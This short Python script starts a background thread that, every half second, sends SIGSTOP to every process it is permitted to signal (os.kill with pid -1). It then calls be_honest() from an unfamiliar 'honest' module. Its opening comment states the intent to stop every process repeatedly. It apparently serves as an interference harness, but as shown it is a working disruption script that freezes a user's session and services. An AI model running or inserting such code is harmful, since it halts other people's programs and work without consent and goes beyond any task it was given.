# Stops every process that it may, again and again.
import os
import signal
import threading
import time

from honest import attempt, be_honest, moments


def stop_others():
    for _ in moments():
        attempt(os.kill, -1, signal.SIGSTOP)
        time.sleep(0.5)


threading.Thread(target=stop_others, daemon=True).start()
be_honest()
